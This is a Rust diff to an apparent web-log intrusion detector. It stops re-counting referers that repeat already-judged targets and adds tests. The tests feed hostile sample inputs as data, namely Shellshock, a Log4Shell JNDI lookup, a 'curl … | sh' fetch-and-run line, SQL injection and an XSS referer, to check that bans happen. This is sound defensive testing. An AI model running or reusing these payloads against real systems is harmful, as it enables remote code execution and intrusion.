@@ -10,6 +10,7 @@ pub mod proxy;
 pub mod replay;
 pub mod rules;
 mod settings;
+pub mod structure;
 pub mod window;
 
 use std::collections::HashMap;
@@ -90,7 +91,15 @@ struct Offences {
     worst: Option<(usize, Severity)>,
     last_failed_auth_rule: Option<usize>,
     evidence: Vec<String>,
+    /// Hashes of the last targets of this IP that matched a rule: a referer that repeats
+    /// one of them (the next page's assets, a same-site link) carries what was already
+    /// judged, and is not counted again.
+    judged: [u64; JUDGED_TARGETS],
+    judged_next: usize,
 }
+
+/// How many of an offender's recent rule-matching targets are remembered.
+const JUDGED_TARGETS: usize = 4;
 
 /// Whether a request target names a static file a page embeds (image, style, script,
 /// font): a 404 for one is a broken page, not a probe.
@@ -213,6 +222,31 @@ impl Detector {
     ) -> Observation {
         let mut obs = Observation::default();
         self.rules.matches(&mut self.view, req, line, &mut obs.hits);
+        let client = self.proxies.client(req.ip, &req.forwarded_for);
+        // A referer that repeats a target of this client that was judged already (and
+        // matched) is the site's own page, not new evidence: judged without it.
+        let target_hash = {
+            let mut h = self.hasher.build_hasher();
+            h.write(&req.target);
+            h.finish()
+        };
+        if !obs.hits.is_empty() && !req.referer.is_empty() {
+            let judged = self
+                .ips
+                .get(&client.ip)
+                .and_then(|s| s.offences.as_ref())
+                .map(|o| o.judged);
+            if let Some(judged) = judged {
+                let mut h = self.hasher.build_hasher();
+                h.write(structure::strip_origin(&req.referer));
+                if judged.contains(&h.finish()) {
+                    let mut without = req.clone();
+                    without.referer = std::borrow::Cow::Borrowed(b"");
+                    self.rules
+                        .matches(&mut self.view, &without, line, &mut obs.hits);
+                }
+            }
+        }
         if let Some(cats) = categories {
             let rules = &self.rules;
             obs.hits
@@ -224,7 +258,6 @@ impl Detector {
         }
 
         let t = &self.thresholds;
-        let client = self.proxies.client(req.ip, &req.forwarded_for);
         obs.client = Some(client.ip);
         let state = self.ips.entry(client.ip).or_default();
         // Out-of-order lines are treated as happening now for this IP, so windows never
@@ -248,6 +281,8 @@ impl Detector {
 
         if !obs.hits.is_empty() {
             off.hits += 1;
+            off.judged[off.judged_next % JUDGED_TARGETS] = target_hash;
+            off.judged_next = off.judged_next.wrapping_add(1);
             if off.evidence.len() >= EVIDENCE_LINES {
                 off.evidence.remove(0);
             }
@@ -443,6 +478,127 @@ mod tests {
     fn feed(d: &mut Detector, raw: &[u8], now: i64) -> Observation {
         let req = parse::parse_access(raw).unwrap();
         d.observe(&req, raw, now)
+    }
+
+    fn line_with(ip: &str, target: &str, referer: &str, ua: &str) -> Vec<u8> {
+        format!("{ip} - - [21/Nov/2026:00:00:00 +0000] \"GET {target} HTTP/1.1\" 200 10 \"{referer}\" \"{ua}\"").into_bytes()
+    }
+
+    #[test]
+    fn a_user_agent_bans_for_an_exploit_never_for_a_library_name() {
+        let mut d = detector(Settings::default());
+        let libraries = [
+            "Ruby",
+            "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.14.0; x86_64-linux; +http://opscode.com)",
+            "curl/8.4.0",
+            "Wget/1.21.3 (linux-gnu)",
+            "python-requests/2.31.0",
+            "Go-http-client/1.1",
+            "Java/1.8.0_181",
+            "okhttp/4.9.3",
+            "libwww-perl/6.67",
+            "Microsoft Office Word 2014",
+            "got (https://github.com/sindresorhus/got)",
+        ];
+        for (i, ua) in libraries.iter().enumerate() {
+            let l = line_with(&format!("203.0.113.{}", 10 + i), "/", "-", ua);
+            let o = feed(&mut d, &l, 1000);
+            assert!(o.hits.is_empty(), "{ua}: {:?}", o.hits);
+        }
+        let exploits = [
+            "() { :; }; /bin/bash -c id",
+            "${jndi:ldap://198.51.100.1/a}",
+            "chef-client -t 1.1.1.1",
+            "ansible-playbook site.yml",
+            "curl http://198.51.100.1/x.sh | sh",
+            "' or 1=1-- ",
+        ];
+        for (i, ua) in exploits.iter().enumerate() {
+            let l = line_with(&format!("203.0.113.{}", 100 + i), "/", "-", ua);
+            assert!(
+                feed(&mut d, &l, 1000).verdict.is_some(),
+                "{ua} is not banned"
+            );
+        }
+    }
+
+    #[test]
+    fn a_referer_is_judged_as_a_url_not_by_header_rules() {
+        let mut d = detector(Settings::default());
+        // A visitor searched for a phrase with `<`; each asset after it carries the
+        // search page as its referer.
+        let search = "/search?q=a%3Cb%20and%20c%3Ed";
+        let referer = format!("https://shop.example{search}");
+        // The search itself may match a weak rule (`<`, `and`, `>` look like SQL
+        // operators); it is judged once, and bans nobody.
+        assert!(feed(
+            &mut d,
+            &line_with("203.0.113.50", search, "-", "Mozilla/5.0"),
+            1000
+        )
+        .verdict
+        .is_none());
+        for (i, asset) in ["/app.css", "/app.js", "/logo.png", "/font.woff2"]
+            .iter()
+            .enumerate()
+        {
+            let o = feed(
+                &mut d,
+                &line_with("203.0.113.50", asset, &referer, "Mozilla/5.0"),
+                1001 + i as i64,
+            );
+            assert!(
+                o.hits.is_empty() && o.verdict.is_none(),
+                "{asset}: {:?}",
+                o.hits
+            );
+        }
+        // An attack in a referer's URL is still one.
+        let o = feed(
+            &mut d,
+            &line_with(
+                "203.0.113.51",
+                "/",
+                "https://evil.example/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+                "Mozilla/5.0",
+            ),
+            1000,
+        );
+        assert!(o.verdict.is_some());
+    }
+
+    /// JSON access logs of the proxies people run, as each writes them.
+    #[test]
+    fn json_access_logs_without_a_request_line_are_not_malformed_requests() {
+        let mut p = parse::LineParser::new(&parse::LogFormat::Json(Box::default())).unwrap();
+        let mut d = detector(Settings::default());
+        let benign = [
+            // Caddy 2: method, URI and protocol apart.
+            r#"{"level":"info","ts":1763719200.1,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"203.0.113.60","remote_port":"51234","client_ip":"203.0.113.60","proto":"HTTP/2.0","method":"GET","host":"example.com","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"status":200,"size":512}"#,
+            // Traefik's JSON access log.
+            r#"{"ClientAddr":"203.0.113.61:40000","ClientHost":"203.0.113.61","RequestMethod":"GET","RequestPath":"/static/app.js","RequestProtocol":"HTTP/1.1","DownstreamStatus":200,"request_User-Agent":"Mozilla/5.0","time":"2026-11-21T10:00:00Z"}"#,
+            // No protocol logged at all (Envoy, Authelia, GitLab): no request line.
+            r#"{"remote_ip":"203.0.113.62","method":"GET","path":"/api/verify","status":200,"time":"2026-11-21T10:00:00Z"}"#,
+        ];
+        for (i, l) in benign.iter().enumerate() {
+            let req = p.parse(l.as_bytes()).expect("parses");
+            let o = d.observe(&req, l.as_bytes(), 1_763_719_200 + i as i64);
+            assert!(
+                o.hits.is_empty() && o.verdict.is_none(),
+                "{l}: {:?}",
+                o.hits
+            );
+        }
+        // The parts are still judged.
+        let attack = r#"{"request":{"remote_ip":"203.0.113.63","proto":"HTTP/1.1","method":"GET","uri":"/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"},"status":200}"#;
+        let req = p.parse(attack.as_bytes()).expect("parses");
+        let v = d.observe(&req, attack.as_bytes(), 1_763_719_300).verdict;
+        assert_eq!(v.map(|v| v.category), Some("sqli".to_string()));
+        // And a protocol that is logged and is not HTTP is still a malformed request.
+        let odd = r#"{"remote_ip":"203.0.113.64","method":"GET","uri":"/","protocol":"GOPHER/1"}"#;
+        let req = p.parse(odd.as_bytes()).expect("parses");
+        let v = d.observe(&req, odd.as_bytes(), 1_763_719_400).verdict;
+        assert_eq!(v.map(|v| v.rule), Some("malformed-not-http".to_string()));
     }
 
     #[test]
